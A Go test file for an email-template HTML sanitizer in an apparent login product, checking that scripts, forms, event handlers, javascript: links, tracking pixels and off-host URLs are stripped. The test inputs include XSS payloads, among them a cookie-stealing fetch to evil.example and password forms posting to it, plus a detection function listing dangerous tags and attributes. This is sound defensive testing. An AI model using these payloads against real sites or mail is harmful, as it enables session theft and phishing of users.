package notify

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// sanitizeFields: an org on its login domain, with the deployment's
// public host, a logo and a reset link.
func sanitizeFields() Fields {
	f := Sample("Acme Corp", "acme", "https://login.acme.com/.gatehouse/login")
	f.Org.LogoURL = "https://login.acme.com/.gatehouse/assets/b/0123abcd.svg"
	f.Org.Hosts = []string{"auth.saas.example", "login.acme.com"}
	return f
}

// unsafeIn reports what in a sanitized HTML part could run, submit, load
// from elsewhere or track: the property FuzzRender holds every output to.
func unsafeIn(s string, f Fields) error {
	own := ownURLsOf(f)
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		tt := z.Next()
		switch tt {
		case html.ErrorToken:
			return nil
		case html.CommentToken:
			return fmt.Errorf("a comment: %q", z.Token().Data)
		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
		default:
			continue
		}
		t := z.Token()
		switch t.Data {
		case "script", "style", "iframe", "frame", "frameset", "object", "embed", "form", "input", "button", "textarea",
			"select", "meta", "link", "base", "svg", "math", "video", "audio", "source", "template", "noscript":
			return fmt.Errorf("a <%s> element", t.Data)
		}
		for _, a := range t.Attr {
			key, val := strings.ToLower(a.Key), strings.ToLower(a.Val)
			compact := strings.Map(func(r rune) rune {
				if r <= ' ' {
					return -1
				}
				return r
			}, val)
			switch {
			case strings.HasPrefix(key, "on"):
				return fmt.Errorf("an event handler %s=%q", a.Key, a.Val)
			case strings.Contains(compact, "javascript:") || strings.Contains(compact, "vbscript:"):
				return fmt.Errorf("a script URL in %s=%q", a.Key, a.Val)
			case key == "style" && (strings.Contains(compact, "url(") || strings.Contains(compact, "expression(") || strings.Contains(compact, "@import")):
				return fmt.Errorf("a style that loads or runs: %q", a.Val)
			case key == "href" || key == "src" || key == "action" || key == "formaction" || key == "background" || key == "srcset" || key == "poster":
				u, err := url.Parse(a.Val)
				if err != nil || !own.allowed(u) || key != "href" && key != "src" {
					return fmt.Errorf("%s=%q is not one of the org's own URLs", a.Key, a.Val)
				}
				if key == "src" && !assetPath.MatchString(a.Val) {
					return fmt.Errorf("an image that is not Gatehouse's asset: %q", a.Val)
				}
			}
		}
	}
}

func TestSanitize(t *testing.T) {
	tests := []struct {
		name   string
		tmpl   string
		mod    func(*Fields)
		want   []string // in the output
		absent []string // not in the output
	}{
		{name: "script and its content", tmpl: `<p>Hi</p><script>fetch("https://evil.example/?c="+document.cookie)</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
			want: []string{"<p>Hi</p>"}, absent: []string{"script", "SCRIPT", "fetch", "evil"}},
		{name: "a form posting elsewhere", tmpl: `<form action="https://evil.example/steal" method="post"><input type="password" name="p"><button formaction="https://evil.example/">Sign in</button><textarea></textarea><select><option>x</option></select></form>`,
			want: []string{"Sign in"}, absent: []string{"<form", "<input", "<button", "<textarea", "<select", "action", "evil"}},
		{name: "frames, objects and embeds", tmpl: `<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e"><frameset><frame src="https://evil.example/"></frameset>`,
			absent: []string{"iframe", "object", "embed", "frame", "evil"}},
		{name: "a tracking pixel on another host", tmpl: `<p>x<img src="https://track.example/open.gif?u={{.User.Email}}" width="1" height="1"></p>`,
			want: []string{"<p>x"}, absent: []string{"track.example", "open.gif"}},
		{name: "an image on the org's host outside the assets", tmpl: `<img src="https://login.acme.com/pixel.gif?u=1">`,
			absent: []string{"pixel.gif"}},
		{name: "a data: image", tmpl: `<img src="data:image/png;base64,iVBORw0KGgo=">`, absent: []string{"data:"}},
		{name: "images from the org's branding assets", tmpl: `<img src="{{.Org.LogoURL}}" alt="Acme"><img src="https://auth.saas.example/.gatehouse/assets/b/ffff.png">`,
			want: []string{`<img src="https://login.acme.com/.gatehouse/assets/b/0123abcd.svg" alt="Acme">`, `<img src="https://auth.saas.example/.gatehouse/assets/b/ffff.png">`}},
		{name: "an image over http from an https deployment", tmpl: `<img src="http://login.acme.com/.gatehouse/assets/b/0123abcd.svg">`, absent: []string{"<img src"}},
		{name: "javascript: links in every spelling", tmpl: `<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a><a href=" javascript:alert(1)">c</a><a href="java&#09;script:alert(1)">d</a><a href="&#106;avascript:alert(1)">e</a><a href="vbscript:msgbox(1)">f</a>`,
			want: []string{"abcdef"}, absent: []string{"href", "script:"}},
		{name: "links to other hosts", tmpl: `<a href="https://evil.example/login">Sign in</a> <a href="https://login.acme.com.evil.example/">x</a> <a href="//evil.example/">y</a> <a href="/relative">z</a>`,
			want: []string{"Sign in x y z"}, absent: []string{"href", "evil"}},
		{name: "user info to smuggle a host", tmpl: `<a href="https://login.acme.com@evil.example/">x</a><a href="https://login.acme.com:443@evil.example/">y</a>`,
			absent: []string{"href", "evil"}},
		{name: "mailto, tel and data links", tmpl: `<a href="mailto:it@acme.com">m</a><a href="tel:+15550100">t</a><a href="data:text/html,<script>alert(1)</script>">d</a>`,
			absent: []string{"href", "mailto", "data:"}},
		{name: "http to the org's hosts from an https deployment", tmpl: `<a href="http://login.acme.com/">x</a>`, absent: []string{"href"}},
		{name: "https links to the org's own hosts", tmpl: `<a href="https://login.acme.com/help">h</a> <a href="https://auth.saas.example/.gatehouse/login?org=acme">s</a> <a href="https://LOGIN.ACME.COM:8443/x">p</a>`,
			want: []string{`<a href="https://login.acme.com/help">h</a>`, `<a href="https://auth.saas.example/.gatehouse/login?org=acme">s</a>`, `href="https://LOGIN.ACME.COM:8443/x"`}},
		{name: "the message's own link, on whatever host", tmpl: `<a href="{{.Link}}">reset</a> <a href="https://reset.partner.example/other">other</a>`,
			mod:  func(f *Fields) { f.Link = "https://reset.partner.example/r?t=1&u=2" },
			want: []string{`<a href="https://reset.partner.example/r?t=1&amp;u=2">reset</a>`}, absent: []string{"/other"}},
		{name: "http on a dev deployment's own origin", tmpl: `<a href="{{.Org.LoginURL}}">in</a><img src="http://auth.localhost:8080/.gatehouse/assets/b/ab.svg"><a href="http://auth.localhost:9999/">other port</a>`,
			mod: func(f *Fields) {
				f.Org.LoginURL, f.Org.LogoURL, f.Org.Hosts = "http://auth.localhost:8080/.gatehouse/login?org=acme", "", []string{"auth.localhost"}
			},
			want: []string{`<a href="http://auth.localhost:8080/.gatehouse/login?org=acme">in</a>`, `<img src="http://auth.localhost:8080/.gatehouse/assets/b/ab.svg">`}, absent: []string{":9999"}},
		{name: "event handlers", tmpl: `<body onload="alert(1)"><p onclick="alert(1)" ONMOUSEOVER="x">p</p><img src="{{.Org.LogoURL}}" onerror="alert(1)"><a href="https://login.acme.com/" onfocus="x">a</a></body>`,
			want: []string{"<p>p</p>", `<a href="https://login.acme.com/">a</a>`}, absent: []string{"alert", "onclick", "ONMOUSEOVER", "onerror", "onfocus", "onload"}},
		{name: "styles that load or run", tmpl: `<p style="color: #b00020; background-image: url(https://track.example/p.gif); width: expression(alert(1)); behavior: url(x.htc)">s</p><div style="background: url('https://track.example/')">d</div>`,
			want: []string{`<p style="color: #b00020">s</p>`, "<div>d</div>"}, absent: []string{"url(", "expression", "track", "behavior"}},
		{name: "style, meta, base and link elements", tmpl: `<style>@import url(https://evil.example/x.css); body{}</style><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><p>ok</p>`,
			want: []string{"<p>ok</p>"}, absent: []string{"evil", "<style", "<meta", "<base", "<link", "@import"}},
		{name: "svg and math", tmpl: `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg><math><mi xlink:href="javascript:alert(1)">m</mi></math>`,
			absent: []string{"<svg", "<math", "javascript", "alert"}},
		{name: "comments, conditional ones too", tmpl: `<!--[if mso]><a href="https://evil.example/">x</a><![endif]--><p>after</p><!-- note -->`,
			want: []string{"<p>after</p>"}, absent: []string{"<!--", "evil"}},
		{name: "attributes that load", tmpl: `<table background="https://track.example/bg.gif"><tr><td background="https://track.example/td.gif">c</td></tr></table><img src="{{.Org.LogoURL}}" srcset="https://track.example/2x.png 2x">`,
			want: []string{"<td>c</td>"}, absent: []string{"track.example", "srcset", "background="}},
		{name: "email layout survives", tmpl: `<table width="100%" cellpadding="0" border="0"><tr><td align="center" style="padding: 16px; font-family: Arial, sans-serif">Hi <strong>{{.User.Name}}</strong></td></tr></table><ul><li>one</li></ul><h2 dir="ltr">T</h2>`,
			want: []string{`<table width="100%" cellpadding="0" border="0">`, `<td align="center" style="padding: 16px; font-family: Arial, sans-serif">`, "<strong>Sam Example</strong>", "<ul><li>one</li></ul>", `<h2 dir="ltr">T</h2>`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := sanitizeFields()
			if tt.mod != nil {
				tt.mod(&f)
			}
			m, err := Render(Invitation, Template{HTML: tt.tmpl}, f)
			if err != nil {
				t.Fatal(err)
			}
			for _, w := range tt.want {
				if !strings.Contains(m.HTML, w) {
					t.Errorf("lacks %q:\n%s", w, m.HTML)
				}
			}
			for _, a := range tt.absent {
				if strings.Contains(m.HTML, a) {
					t.Errorf("has %q:\n%s", a, m.HTML)
				}
			}
			if err := unsafeIn(m.HTML, f); err != nil {
				t.Errorf("%v:\n%s", err, m.HTML)
			}
		})
	}
}

// Gatehouse's own templates pass the sanitizer unchanged, doctype and
// all: the allow-list takes away nothing a message needs.
func TestDefaultsSurviveSanitizing(t *testing.T) {
	f := sanitizeFields()
	f.Org.Support = `IT "helpdesk" & <friends>`
	for _, k := range Kinds {
		raw, err := renderHTML(Default(k).HTML, f)
		if err != nil {
			t.Fatal(err)
		}
		m, err := Render(k, Template{}, f)
		if err != nil {
			t.Fatal(err)
		}
		if m.HTML != raw || !strings.HasPrefix(m.HTML, "<!doctype html>\n<html>") {
			t.Errorf("%s changed:\n%s\nwant\n%s", k, m.HTML, raw)
		}
	}
}

// Sanitizing never grows a part past the size limit: literal quotes in
// a template's own text come out as entities.
func TestSanitizeKeepsTheLimit(t *testing.T) {
	_, err := Render(Invitation, Template{HTML: "<p>" + strings.Repeat(`"`, 20000) + "</p>"}, sanitizeFields())
	if err == nil || !strings.Contains(err.Error(), "notify: html: output larger than") {
		t.Fatalf("err = %v", err)
	}
}

func TestPreview(t *testing.T) {
	logo := []byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`)
	f := sanitizeFields()
	images := func(src string) ([]byte, string, bool) {
		if src == f.Org.LogoURL {
			return logo, "image/svg+xml", true
		}
		return nil, "", false
	}
	meta := `<meta http-equiv="Content-Security-Policy" content="` + PreviewCSP + `">`
	tests := []struct {
		name, html string
		want       string
	}{
		{"a document", "<!doctype html>\n<html><body><p>x</p></body></html>", "<!doctype html>" + meta + "\n<html><body><p>x</p></body></html>"},
		{"a fragment", "<p>x</p>", meta + "<p>x</p>"},
		{"the logo inlined", `<p><img src="` + f.Org.LogoURL + `" alt=""></p>`,
			meta + `<p><img src="data:image/svg+xml;base64,` + base64.StdEncoding.EncodeToString(logo) + `" alt=""></p>`},
		{"another image left to the CSP", `<img src="https://auth.saas.example/.gatehouse/assets/b/ff.png">`,
			meta + `<img src="https://auth.saas.example/.gatehouse/assets/b/ff.png">`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Preview(tt.html, images); got != tt.want {
				t.Errorf("got\n%s\nwant\n%s", got, tt.want)
			}
		})
	}
	for _, d := range []string{"img-src data:", "default-src 'none'", "form-action 'none'"} {
		if !strings.Contains(PreviewCSP, d) || strings.Contains(PreviewCSP, "script-src") || strings.Contains(PreviewCSP, "https:") {
			t.Errorf("PreviewCSP %q", PreviewCSP)
		}
	}
}

// unsafeIn itself: it catches what it is there to catch, so FuzzRender's
// check means something.
func TestUnsafeInCatches(t *testing.T) {
	f := sanitizeFields()
	for _, s := range []string{
		`<script>x</script>`, `<p onclick="x">`, `<a href="javascript:x">`, `<a href="java	script:x">`, `<a href="https://evil.example/">`,
		`<img src="https://login.acme.com/pixel.gif">`, `<img src="data:image/png;base64,AA==">`, `<form action="https://login.acme.com/">`,
		`<p style="background: url(https://login.acme.com/x)">`, `<!-- c -->`, `<td background="https://login.acme.com/.gatehouse/assets/x">`,
	} {
		if unsafeIn(s, f) == nil {
			t.Errorf("%q passed", s)
		}
	}
	if err := unsafeIn(`<p style="color: red"><a href="https://login.acme.com/x">x</a><img src="https://login.acme.com/.gatehouse/assets/b/a.png"></p>`, f); err != nil {
		t.Errorf("safe HTML refused: %v", err)
	}
}

// Removed names what the sanitizer takes out of an org's HTML, and
// nothing for markup it keeps as it is, however it was spelled.
func TestRemoved(t *testing.T) {
	f := sanitizeFields()
	tests := []struct{ name, html, want string }{
		{"the defaults", "", ""},
		{"kept markup in other spellings", `<P STYLE='color:red;'>x &amp; 'y'</P><br/><a href='{{.Link}}'>l</a>`, ""},
		{"a link to another site", `<p>See <a href="https://acme.com/help">help</a></p>`, `<a href="https://acme.com/help">`},
		{"a script", `<p>x</p><script>alert(1)</script>`, `<script>`},
		{"a form", `<form action="https://evil.example/">`, `<form action="https://evil.example/">`},
		{"an event handler", `<p onclick="x">p</p>`, `<p onclick="x">`},
		{"a comment (html/template drops it first)", `<p>x</p><!-- hi -->`, ""},
		{"a tracking pixel", `<img src="https://track.example/p.gif">`, `<img src="https://track.example/p.gif">`},
		{"a style that loads", `<p style="color: red; background: url(https://t.example/)">x</p>`, `<p style="color: red; background: url(https://t.example/)">`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Removed(Invitation, Template{HTML: tt.html}, f)
			if err != nil || got != tt.want {
				t.Fatalf("Removed = %q, %v; want %q", got, err, tt.want)
			}
		})
	}
	if _, err := Removed(Invitation, Template{HTML: "{{if}}"}, f); err == nil {
		t.Fatal("a broken template: no error")
	}
}
